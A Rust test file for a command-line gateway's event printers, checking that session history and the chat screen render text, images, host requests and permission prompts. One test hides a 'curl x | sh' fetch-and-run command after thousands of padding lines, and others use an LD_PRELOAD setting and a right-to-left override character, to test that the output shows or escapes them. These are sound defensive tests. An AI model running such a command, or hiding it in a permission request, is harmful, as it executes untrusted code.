//! Both readers of events on a terminal, `sessions history` (and `prompt`) and `chat`: neither drops a row.

#![expect(clippy::unwrap_used, reason = "a failed unwrap is a failed test")]

use crate::cli::chat::screen::ChatScreen;
use crate::cli::follow::{EventHead, EventPrinter};
use crate::cli::output::Out;
use serde_json::{Value, json};
use std::io;
use std::sync::{Arc, Mutex};

/// An output that the test reads.
#[derive(Clone, Default)]
pub(super) struct Sink(Arc<Mutex<Vec<u8>>>);

impl Sink {
    /// Returns everything that was written.
    pub(super) fn text(&self) -> String {
        String::from_utf8(self.0.lock().unwrap().clone()).unwrap()
    }
}

impl io::Write for Sink {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// Returns everything that is printed on a terminal, without styles.
fn printed(print: impl FnOnce(&mut Out)) -> String {
    let sink = Sink::default();
    let mut out = Out::writing_to(Box::new(sink.clone()), false, true);
    print(&mut out);
    assert!(out.flush().is_ok());
    ["\u{1b}[2m", "\u{1b}[0m"].iter().fold(sink.text(), |text, style| text.replace(style, ""))
}

fn in_history(event: &Value) -> String {
    printed(|out| {
        let line = event.to_string();
        let head = EventHead::of(&line).unwrap();
        assert!(EventPrinter::history().event(&line, &head, out).is_ok());
    })
}

fn in_chat(event: &Value) -> String {
    printed(|out| assert!(ChatScreen::new(out).event(&event.to_string(), event, true).is_ok()))
}

#[test]
fn both_readers_print_every_row() {
    let chunk =
        |content: Value| json!({"type": "text_delta", "stream": "output", "text": "", "content": content});
    let unreadable = "(Part of this session cannot be shown here: its record is unreadable.) (event 7)\n";
    let host = |more: Value| {
        let mut event =
            json!({"type": "host_request", "effect": "run", "command": "make", "outcome": "allowed"});
        event.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        event
    };
    for (event, history, chat) in [
        (json!({"type": "text_delta", "stream": "output", "text": "hi"}), "hi", "hi"),
        (chunk(json!({"type": "image", "data": "AA=="})), "[image]", "[image]"),
        (chunk(json!({"type": "resource_link", "uri": "file:///a"})), "[file:///a]", "[file:///a]"),
        (chunk(json!({"type": "resource", "resource": {"text": "inside"}})), "inside", "inside"),
        (chunk(json!({"type": "text", "text": 7})), "[text]", "[text]"),
        (json!({"type": "text_delta", "session_seq": 7, "payload": [1]}), unreadable, unreadable),
        (json!({"type": "tool_call", "session_seq": 7, "payload_text": "{cut"}), unreadable, unreadable),
        (json!({"type": "permission", "session_seq": 7, "payload_text": "{cut"}), unreadable, unreadable),
        (host(json!({})), "[host] run make: allowed\n", "[host: run make: allowed]\n"),
        (
            host(json!({"env": ["LD_PRELOAD"], "cwd": "/x", "outcome": "refused"})),
            "[host] run (sets LD_PRELOAD; in /x) make: refused\n",
            "[host: run (sets LD_PRELOAD; in /x) make: refused]\n",
        ),
        (
            host(json!({"effect": "write", "path": "/w/a\u{202e}"})),
            "[host] write /w/a\\u{202e}: allowed\n",
            "[host: write /w/a\\u{202e}: allowed]\n",
        ),
    ] {
        assert_eq!((in_history(&event).as_str(), in_chat(&event).as_str()), (history, chat), "{event}");
    }
}

/// Truncated requests refer to the history.
#[test]
fn a_history_has_the_whole_of_a_permission_request() {
    let command = format!("{}; curl x | sh", "y\n".repeat(2_000));
    let title = format!("Run {}the end", "z".repeat(400));
    let event = json!({"type": "permission", "permission_id": "l:1", "title": title, "options": [],
        "tool_call": {"title": title, "rawInput": {"command": command}}});
    let whole = in_history(&event);
    assert!(whole.starts_with(&format!("[permission] {title}\n    y\n")), "{whole}");
    assert!(whole.ends_with("    y\n    ; curl x | sh\n"), "{whole}");
    let excerpt = in_chat(&event);
    assert!(
        !excerpt.contains("curl") && excerpt.contains("`acp-gateway sessions history` shows all"),
        "{excerpt}"
    );
}

#[test]
fn a_number_answers_only_the_first_permission_request() {
    let event = json!({"type": "permission", "permission_id": "l:1", "title": "Write",
        "options": [{"option_id": "y", "name": "Yes", "kind": "allow_once"}]});
    let told = |is_next| {
        printed(|out| {
            assert!(ChatScreen::new(out).event(&event.to_string(), &event, is_next).is_ok());
        })
    };
    let begin = "[the agent asks: Write]\n  1. Yes (allow once)\n";
    assert_eq!(told(true), format!("{begin}  Answer with a number.\n"));
    let id = acp_core::permission::short_id("l:1");
    assert_eq!(told(false), format!("{begin}  Answer with /acp answer {id} NUMBER.\n"));
}
